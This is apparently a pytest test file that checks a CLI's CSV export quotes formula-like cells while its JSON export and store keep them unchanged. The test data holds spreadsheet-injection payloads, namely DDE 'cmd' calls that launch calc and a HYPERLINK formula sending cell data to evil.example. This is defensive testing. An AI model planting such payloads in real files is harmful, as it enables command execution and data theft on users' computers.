"""`workbench export`: no cell of any CSV runs as a formula; JSON and stored data stay as they were
(issue 13, class 1)."""

import csv
import json
import re

import pytest

from tests.cli.test_cli import run
from workbench.domain.spreadsheet import FORMULA_STARTS

ATTACKS = {
    "name": "=cmd|' /C calc'!A0",
    "industry": "@SUM(1+1)*cmd|' /C calc'!A0",
    "country": "+1+cmd|' /C calc'!A0",
    "region": "-2+3+cmd|' /C calc'!A0",
    "notes": '=HYPERLINK("http://evil.example/?x="&A1,"Details")',
}


@pytest.fixture
def cli(data_dir, capsys):
    def call(*argv, expect=0):
        code, document = run(data_dir, *argv, capsys=capsys)
        assert code == expect, document
        return document
    return call


def csv_cells(path):
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))


def assert_no_formula(folder):
    """What a spreadsheet would see: no cell of any exported CSV starts a formula."""
    for path in sorted(folder.glob("*.csv")):
        for row in csv_cells(path):
            for column, cell in row.items():
                assert not cell.startswith(FORMULA_STARTS) or re.fullmatch(r"[+-]?[\d.eE+-]+", cell), \
                    f"{path.name} {column}: {cell!r} would run as a formula"


def test_imported_formulas_are_quoted_in_csv_and_kept_in_json_and_the_store(cli, tmp_path):
    source = tmp_path / "crm.csv"
    with source.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["Account Name", "Website", "Industry", "Country", "Region", "Notes"])
        writer.writerow([ATTACKS["name"], "evil.example", ATTACKS["industry"], ATTACKS["country"],
                         ATTACKS["region"], ATTACKS["notes"]])
    cli("accounts", "import", str(source))
    account = next(a for a in cli("accounts", "list") if a["domain"] == "evil.example")
    contact = cli("contacts", "add", "--account", account["id"], "--name", "-Minus Person",
                  "--email", "x@evil.example")

    out = tmp_path / "export"
    cli("export", str(out))

    [exported] = [r for r in csv_cells(out / "accounts.csv") if r["id"] == account["id"]]
    for field, attack in ATTACKS.items():
        assert exported[field] == "'" + attack  # shown as text by Excel and LibreOffice
    assert next(r for r in csv_cells(out / "contacts.csv"))["name"] == "'-Minus Person"
    assert_no_formula(out)
    assert len(csv_cells(out / "edit_history.csv")) == 2  # the edits, as JSON cells

    # the JSON export and the store keep the values exactly as imported
    as_json = {a["id"]: a for a in json.loads((out / "accounts.json").read_text(encoding="utf-8"))}
    assert {k: as_json[account["id"]][k] for k in ATTACKS} == ATTACKS
    assert {k: cli("accounts", "show", account["id"])[k] for k in ATTACKS} == ATTACKS
    assert json.loads((out / "contacts.json").read_text(encoding="utf-8"))[0]["name"] == \
        contact["name"] == "-Minus Person"


def test_numbers_stay_numbers_in_the_csv(cli, tmp_path):
    account = cli("accounts", "add", "--name", "Globex", "--domain", "globex.example")
    cli("registrations", "draft", "--account", account["id"], "--value", "40000",
        "--close-date", "2099-03-31", "--product=-Suite")
    out = tmp_path / "export"
    cli("export", str(out))
    [registration] = csv_cells(out / "registrations.csv")
    assert registration["deal_value_cents"] == "4000000" and registration["version"] == "0"
    assert registration["product"] == "'-Suite"
